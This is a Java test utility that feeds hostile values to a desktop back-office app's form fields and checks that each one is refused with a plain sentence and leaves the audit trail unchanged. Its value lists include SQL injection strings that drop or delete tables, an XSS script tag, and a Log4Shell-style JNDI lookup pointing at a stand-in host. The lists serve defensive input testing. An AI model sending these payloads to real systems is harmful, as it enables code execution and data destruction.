package org.smartstart.backoffice.testing;

import org.assertj.core.api.SoftAssertions;

import java.sql.Connection;
import java.sql.SQLException;
import java.time.LocalDate;
import java.util.List;
import java.util.function.Supplier;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 8, bad input in the desktop's forms: the hostile values every form field gets through its view
 * model, and the checks after each try: no exception escapes, the refusal is a sentence for a person (not a
 * stack trace or a driver message), and nothing was written (the audit trail did not grow, AU-1).
 */
public final class HostileInput {

    private HostileInput() {
    }

    /** Values no number field may accept. */
    public static final List<String> NOT_NUMBERS = List.of(
            "", "   ", "abc", "12abc", "1e309", "1E+2147483647", "1e-2147483647", "NaN", "Infinity", "-Infinity", "0x1F", "--5",
            "99999999999999999999999999999999999999999999999999999999999", "-99999999999999999999999999999999999999",
            "9223372036854775808", "-9223372036854775809", "\u0000", "5\u0000", "1 000 000 000 000 000 000 000",
            "<script>alert(1)</script>", "'; DROP TABLE audit_log; --", "1' OR '1'='1", "x".repeat(5_000), "5".repeat(5_000),
            "-5", "-0.001", "0", "0.0001", "12.3456", "100.0001", "150", "1e3x", "%", "%%", "∞", "null", "undefined", "true");

    /** Values a number of BUZ (a whole number, more than 0) must refuse; a percent field uses {@link #NOT_NUMBERS}. */
    public static final List<String> NOT_BUZ = List.of(
            "", "abc", "1.5", "0.0001", "-5", "0", "-9223372036854775808", "9223372036854775808", "1e309", "1E+2147483647",
            "99999999999999999999999999999999999999999999999999999999999", "\u0000", "5\u0000", "x".repeat(5_000), "5".repeat(5_000),
            "<script>alert(1)</script>", "'; DROP TABLE audit_log; --", "NaN", "Infinity", "0x10");

    /** Free text: each is either refused with a sentence or stored exactly as typed. */
    public static final List<String> HOSTILE_TEXT = List.of(
            "\u0000", "reason\u0000with NUL", "x".repeat(5_000), "<script>alert('x')</script>", "'; DROP TABLE audit_log; --",
            "Robert'); DELETE FROM legal_holds; --", "${jndi:ldap://evil.example/a}", "\uD83D\uDCA3 \u202Eevil", "\t\r\n", "   ");

    /** Text that must be refused whatever the field (PostgreSQL cannot store NUL; blank is no reason). */
    public static boolean mustRefuseAsText(String value) {
        return value.indexOf('\u0000') >= 0 || value.isBlank();
    }

    /** Dates a form may be handed by a date picker or a pasted value: the extremes of LocalDate and of the database. */
    public static final List<LocalDate> HOSTILE_DATES = List.of(LocalDate.MIN, LocalDate.MAX, LocalDate.of(-1, 1, 1),
            LocalDate.of(0, 1, 1), LocalDate.of(1, 1, 1), LocalDate.of(9999, 12, 31), LocalDate.of(10_000, 1, 1),
            LocalDate.of(294_277, 1, 1), LocalDate.of(-4_713, 11, 24));

    /** Every audit entry so far (outbox and log); a refused form must leave it as it was. */
    public static synchronized long auditEntries(TestDatabase db) {
        try {
            Connection c = COUNTERS.get(db);
            if (c == null || c.isClosed()) {
                c = db.ownerConnection();
                COUNTERS.put(db, c);
            }
            return LedgerInvariants.auditEntries(c);
        } catch (SQLException e) {
            throw new IllegalStateException(e);
        }
    }

    /** One connection per database for counting (a new one per form try made the tests slow); dropped with the database. */
    private static final java.util.Map<TestDatabase, Connection> COUNTERS = new java.util.WeakHashMap<>();

    /**
     * Runs {@code action} (a form's button) and checks what a person would see: no exception escapes, and when
     * {@code mustRefuse}, a human sentence from {@code problem} and no new audit entry.
     *
     * @return true when the form refused it
     */
    public static boolean tryForm(SoftAssertions softly, TestDatabase db, String what, Runnable action, Supplier<String> problem, boolean mustRefuse) {
        long before = auditEntries(db);
        Throwable escaped = null;
        // JavaFX hands an exception thrown by a property listener to the thread's handler instead of the caller
        List<Throwable> inListeners = new java.util.ArrayList<>();
        Thread me = Thread.currentThread();
        Thread.UncaughtExceptionHandler handler = me.getUncaughtExceptionHandler();
        me.setUncaughtExceptionHandler((t, e) -> inListeners.add(e));
        try {
            action.run();
        } catch (Throwable t) {
            escaped = t;
        } finally {
            me.setUncaughtExceptionHandler(handler);
        }
        softly.assertThat(escaped).as("%s: no exception escapes the form", what).isNull();
        softly.assertThat(inListeners).as("%s: no exception in the form's listeners", what).isEmpty();
        long written = auditEntries(db) - before;
        String sentence = problem.get();
        boolean refused = written == 0;
        if (mustRefuse) {
            softly.assertThat(written).as("%s: nothing written (problem: %s)", what, sentence).isZero();
        }
        if (refused) {
            softly.assertThat(sentence).as("%s: a sentence says what is wrong", what).isNotBlank();
            assertHuman(softly, what, sentence);
        } else {
            softly.assertThat(written).as("%s: one audit entry if it was taken", what).isEqualTo(1);
        }
        return refused;
    }

    public static void assertHuman(SoftAssertions softly, String what, String sentence) {
        if (sentence == null) {
            return;
        }
        softly.assertThat(sentence).as("%s: a human sentence, not a technical one", what)
                .doesNotContain("Exception", "java.", "org.", "SQLState", "SQLSTATE", "ERROR:", "PSQL", "Hibernate", "\tat ");
    }

    /** Short for messages: hostile values can be 5,000 characters or invisible. */
    public static String show(Object value) {
        String s = String.valueOf(value).replace("\u0000", "\\0");
        return s.length() > 40 ? s.substring(0, 20) + "…(" + s.length() + " chars)" : "\"" + s + "\"";
    }

    public static void check(boolean condition, String message) {
        assertThat(condition).as(message).isTrue();
    }
}
